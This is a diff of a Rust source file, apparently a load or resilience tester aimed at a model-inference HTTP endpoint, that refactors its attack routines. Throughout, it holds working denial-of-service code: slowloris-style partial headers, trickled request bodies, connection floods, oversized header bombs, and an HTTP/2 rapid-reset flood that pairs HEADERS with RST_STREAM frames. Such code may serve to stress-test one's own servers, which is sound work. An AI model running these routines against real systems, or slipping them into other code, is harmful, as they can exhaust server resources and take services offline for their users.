@@ -7,7 +7,7 @@ use tokio::{
     io::{AsyncReadExt as _, AsyncWriteExt as _},
     net::TcpStream,
     task::JoinSet,
-    time::{MissedTickBehavior, interval, sleep},
+    time::{Interval, MissedTickBehavior, interval, sleep},
 };
 
 /// What is done.
@@ -58,83 +58,83 @@ impl Attack {
 
 const HEAD: &[u8] = b"POST /v2/models/bench/infer HTTP/1.1\r\nhost: a\r\n";
 
-/// A connection that says the first words; one that is closed is replaced.
-async fn again(address: SocketAddr, words: &[u8], then: impl AsyncFn(&mut TcpStream)) {
+/// A connection that has said its first words; tried until there is one.
+async fn opened(address: SocketAddr, words: &[u8]) -> TcpStream {
     const PAUSE: Duration = Duration::from_millis(100);
     loop {
         if let Ok(mut stream) = TcpStream::connect(address).await
             && stream.write_all(words).await.is_ok()
         {
-            then(&mut stream).await;
+            return stream;
         }
         sleep(PAUSE).await;
     }
 }
 
 async fn half_head(address: SocketAddr) {
-    again(address, HEAD, async |stream| drop(stream.read(&mut [0; 1]).await)).await;
+    loop {
+        let _ = opened(address, HEAD).await.read(&mut [0; 1]).await;
+    }
 }
 
 async fn slow_body(address: SocketAddr) {
     let words = [HEAD, b"content-length: 100000\r\n\r\n"].concat();
-    again(address, &words, async |stream| {
+    loop {
+        let mut stream = opened(address, &words).await;
         while stream.write_all(b"x").await.is_ok() {
             sleep(Duration::from_millis(100)).await;
         }
-    })
-    .await;
+    }
 }
 
 async fn connections(address: SocketAddr) {
-    each(Duration::from_millis(5), async || drop(TcpStream::connect(address).await)).await;
+    let mut ticks = every(Duration::from_millis(5));
+    loop {
+        ticks.tick().await;
+        let _ = TcpStream::connect(address).await;
+    }
 }
 
 async fn header_bombs(address: SocketAddr) {
     let mut bomb = HEAD.to_vec();
     (0..1024).for_each(|number| bomb.extend(format!("x-{number:04}: {}\r\n", "b".repeat(54)).bytes()));
-    each(Duration::from_millis(20), async || {
+    let mut ticks = every(Duration::from_millis(20));
+    loop {
+        ticks.tick().await;
         if let Ok(mut stream) = TcpStream::connect(address).await {
             let _ = stream.write_all(&bomb).await;
         }
-    })
-    .await;
-}
-
-async fn each(time: Duration, act: impl AsyncFn()) {
-    let mut ticks = interval(time);
-    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
-    loop {
-        ticks.tick().await;
-        act().await;
     }
 }
 
-/// RFC 9113, the preface, SETTINGS, and then HEADERS with RST_STREAM behind each.
+fn every(time: Duration) -> Interval {
+    let mut ticks = interval(time);
+    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
+    ticks
+}
+
+/// RFC 9113: the preface, SETTINGS, and then HEADERS with RST_STREAM behind each, ten times in 10 ms.
 async fn resets(address: SocketAddr) {
     const AT_ONCE: u32 = 10;
+    const CANCEL: u32 = 8;
     let start = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(4, 0, 0, &[])].concat();
     // RFC 7541, indexed: GET, http, /; literal: the authority.
     let head = [0x82, 0x86, 0x84, 0x01, 0x01, b'a'];
-    again(address, &start, async |stream| {
-        let mut ticks = interval(Duration::from_millis(10));
-        let mut id = 1;
-        let mut heard = vec![0; 16 << 10];
-        while id < u32::MAX / 4 {
+    let mut heard = vec![0; 16 << 10];
+    loop {
+        let mut stream = opened(address, &start).await;
+        let mut ticks = every(Duration::from_millis(10));
+        for first in (1..u32::MAX / 4).step_by(2 * AT_ONCE as usize) {
             ticks.tick().await;
-            let mut bytes = Vec::new();
-            for _ in 0..AT_ONCE {
-                bytes.extend(frame(1, 5, id, &head));
-                bytes.extend(frame(3, 0, id, &8_u32.to_be_bytes()));
-                id += 2;
-            }
+            let streams = (first..).step_by(2).take(AT_ONCE as usize);
+            let reset = |id| [frame(1, 5, id, &head), frame(3, 0, id, &CANCEL.to_be_bytes())].concat();
             // Whoever does not read is soon not read either.
             let _ = stream.try_read(&mut heard);
-            if stream.write_all(&bytes).await.is_err() {
-                return;
+            if stream.write_all(&streams.flat_map(reset).collect::<Vec<u8>>()).await.is_err() {
+                break;
             }
         }
-    })
-    .await;
+    }
 }
 
 fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
